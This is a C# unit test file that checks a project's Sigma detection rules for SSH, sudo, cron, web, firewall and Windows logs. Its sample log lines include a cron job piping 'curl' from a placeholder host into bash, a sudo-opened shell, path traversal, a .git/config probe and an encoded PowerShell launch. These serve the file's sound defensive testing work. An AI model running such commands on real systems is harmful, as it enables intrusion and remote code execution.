using System.Globalization;
using Hufu.Logs;

namespace Hufu.Sigma.Tests;

public class RuleContentTests
{
    private static readonly DateTimeOffset Reference = new(2026, 11, 23, 0, 0, 0, TimeSpan.Zero);

    private static List<SigmaRule> Rules()
    {
        for (var folder = new DirectoryInfo(AppContext.BaseDirectory); folder is not null; folder = folder.Parent)
        {
            var content = Path.Combine(folder.FullName, "content", "rules", "hufu");
            if (!Directory.Exists(content)) continue;
            var read = Directory.GetFiles(content, "*.yml").Order(StringComparer.Ordinal).Select(file => SigmaParser.Parse(File.ReadAllText(file), Path.GetFileName(file))).ToList();
            Assert.Empty(read.SelectMany(file => file.Errors));
            return [.. read.SelectMany(file => file.Rules)];
        }

        throw new DirectoryNotFoundException("content/rules/hufu");
    }

    private static List<string> Run(IEnumerable<string> lines)
    {
        var engine = SigmaEngine.Compile(Rules());
        Assert.Empty(engine.Refused);
        var session = engine.NewSession();
        var matches = new List<SigmaMatch>();
        foreach (var line in lines)
        {
            var read = LogParser.Parse(line, Reference, "test", new LogParseOptions { ReferenceTime = Reference });
            session.Process(new Adapter(read), read.Time, line, [.. LogSourceHints.For(read).Select(hint => new SigmaLogSource(hint.Product, hint.Category, hint.Service))], matches);
        }

        return [.. matches.Select(match => match.Rule.Title)];
    }

    [Fact]
    public void EveryRuleIsComplete()
    {
        var rules = Rules();
        Assert.True(rules.Count >= 12);
        Assert.Equal(rules.Count, rules.Select(rule => rule.Id).Distinct().Count());
        Assert.All(rules, rule =>
        {
            Assert.True(Guid.TryParse(rule.Id, out _), rule.Title);
            Assert.Equal(("Hufu contributors", "Apache-2.0"), (rule.Author, rule.License));
            Assert.NotNull(rule.Level);
            Assert.Contains(rule.Tags, tag => tag.StartsWith("attack.t", StringComparison.Ordinal));
            Assert.Matches(@"\p{IsCJKUnifiedIdeographs}", Assert.IsType<string>(rule.Custom["title_zh"]));
            Assert.Matches(@"\p{IsCJKUnifiedIdeographs}", Assert.IsType<string>(rule.Custom["description_zh"]));
        });
    }

    [Theory]
    [InlineData("Nov 22 10:00:00 h sshd[1]: Invalid user oracle from 203.0.113.9 port 4242", "SSH Login With a User Name That Does Not Exist")]
    [InlineData("Nov 22 10:00:00 h sshd[1]: Accepted password for root from 203.0.113.9 port 4242 ssh2", "Root Logged In Over SSH With a Password")]
    [InlineData("Nov 22 10:00:00 h sshd[1]: Accepted publickey for root from 203.0.113.9 port 4242 ssh2", "")]
    [InlineData("Nov 22 10:00:00 h sshd[1]: Accepted password for alice from 203.0.113.9 port 4242 ssh2", "")]
    [InlineData("Nov 22 10:00:00 h sudo: alice : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/bash -i", "Shell Opened With Sudo")]
    [InlineData("Nov 22 10:00:00 h sudo: alice : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/apt update", "")]
    [InlineData("Nov 22 10:00:00 h sudo: bob : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/ls", "Sudo Refused")]
    [InlineData("Nov 22 10:00:00 h CRON[5]: (root) CMD (curl -s http://x.example/a | bash)", "Cron Job That Downloads and Runs a Script")]
    [InlineData("Nov 22 10:00:00 h CRON[5]: (root) CMD (curl -s http://x.example/a -o /tmp/a)", "")]
    [InlineData("203.0.113.7 - - [22/Nov/2026:10:00:00 +0800] \"GET / HTTP/1.1\" 200 5 \"-\" \"Mozilla/5.00 (Nikto/2.5)\"", "Request of a Known Scanner")]
    [InlineData("203.0.113.7 - - [22/Nov/2026:10:00:00 +0800] \"GET /a?f=..%2F..%2Fx HTTP/1.1\" 200 5 \"-\" \"curl\"", "Path Traversal in a Request")]
    [InlineData("203.0.113.7 - - [22/Nov/2026:10:00:00 +0800] \"GET /.git/config HTTP/1.1\" 200 5 \"-\" \"curl\"", "Request for a File That Must Not Be Public")]
    [InlineData("203.0.113.7 - - [22/Nov/2026:10:00:00 +0800] \"GET /about HTTP/1.1\" 200 5 \"-\" \"Mozilla/5.0\"", "")]
    [InlineData("""{"EventID":4720,"Channel":"Security","Computer":"dc01","TargetUserName":"x","@timestamp":"2026-11-22T10:00:00Z"}""", "Windows Account Created")]
    [InlineData("""{"EventID":1102,"Channel":"Security","Computer":"dc01","@timestamp":"2026-11-22T10:00:00Z"}""", "Windows Audit Log Cleared")]
    [InlineData("""{"EventID":1102,"Channel":"System","Computer":"dc01","@timestamp":"2026-11-22T10:00:00Z"}""", "")]
    [InlineData("""{"EventID":4688,"Channel":"Security","NewProcessName":"C:\\Windows\\powershell.exe","CommandLine":"powershell -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0A","@timestamp":"2026-11-22T10:00:00Z"}""", "PowerShell Started With an Encoded Command")]
    [InlineData("""{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Image":"C:\\Windows\\pwsh.exe","CommandLine":"pwsh /EncodedCommand \"SQBFAFgAIAAoAE4AZQB3AC0A\"","UtcTime":"2026-11-22 10:00:00.000"}""", "PowerShell Started With an Encoded Command")]
    [InlineData("""{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Image":"C:\\Windows\\pwsh.exe","CommandLine":"pwsh -ExecutionPolicy Bypass -File C:\\scripts\\a.ps1","UtcTime":"2026-11-22 10:00:00.000"}""", "")]
    public void ALineFiresItsRuleAndNoOther(string line, string title) => Assert.Equal(title.Length == 0 ? [] : [title], Run([line]));

    [Theory]
    [InlineData(9, 20, 0)]
    [InlineData(10, 20, 1)]
    [InlineData(30, 20, 2)]
    [InlineData(30, 40, 0)]
    public void PasswordGuessingFiresAtTheTenthFailureWithinFiveMinutes(int failures, int secondsBetween, int fired)
    {
        var begin = new DateTime(2026, 11, 22, 10, 0, 0);
        var lines = Enumerable.Range(0, failures).Select(i =>
            $"{begin.AddSeconds(i * secondsBetween).ToString("MMM dd HH:mm:ss", CultureInfo.InvariantCulture)} h sshd[{i}]: Failed password for root from 203.0.113.9 port {4000 + i} ssh2");
        Assert.Equal(Enumerable.Repeat("SSH Password Guessing From One Address", fired), Run(lines));
    }

    [Fact]
    public void SprayingPortScansMissingPagesAndFailedLogonsFireOnceEach()
    {
        Assert.Equal(["SSH Password Spraying From One Address"], Run(Enumerable.Range(0, 6).Select(i => $"Nov 22 10:0{i}:00 h sshd[{i}]: Failed password for user{i} from 203.0.113.9 port 4000 ssh2")));
        Assert.Equal(["Port Scan Seen by the Firewall"], Run(Enumerable.Range(0, 20).Select(i => $"Nov 22 10:00:{i:00} h kernel: [1.{i}] [UFW BLOCK] IN=eth0 SRC=198.51.100.4 DST=10.0.0.1 PROTO=TCP SPT=4000 DPT={i + 20}")));
        Assert.Empty(Run(Enumerable.Range(0, 20).Select(i => $"Nov 22 10:00:{i:00} h kernel: [1.{i}] [UFW BLOCK] IN=eth0 SRC=198.51.100.4 DST=10.0.0.1 PROTO=TCP SPT=4000 DPT=22")));
        Assert.Equal(["Many Different Missing Pages Asked by One Client"], Run(Enumerable.Range(0, 40).Select(i => $"203.0.113.7 - - [22/Nov/2026:10:00:{i:00} +0800] \"GET /p{i} HTTP/1.1\" 404 5 \"-\" \"x\"")));
        Assert.Equal(["Many Failed Windows Logons of One Account"], Run(Enumerable.Range(0, 12).Select(i =>
            $$"""{"EventID":4625,"Channel":"Security","Computer":"dc01","TargetUserName":"alice","@timestamp":"2026-11-22T10:00:{{i:00}}Z"}""")));
    }

    private sealed class Adapter(LogEvent item) : ISigmaEvent
    {
        public int KeywordValueCount => 1;

        public bool TryGet(string field, out SigmaValue value)
        {
            var text = item.Field(field);
            value = text is null ? default : SigmaValue.Of(text);
            return text is not null;
        }

        public SigmaValue KeywordValueAt(int index, out string field)
        {
            field = "raw";
            return SigmaValue.Of(item.Raw);
        }
    }
}
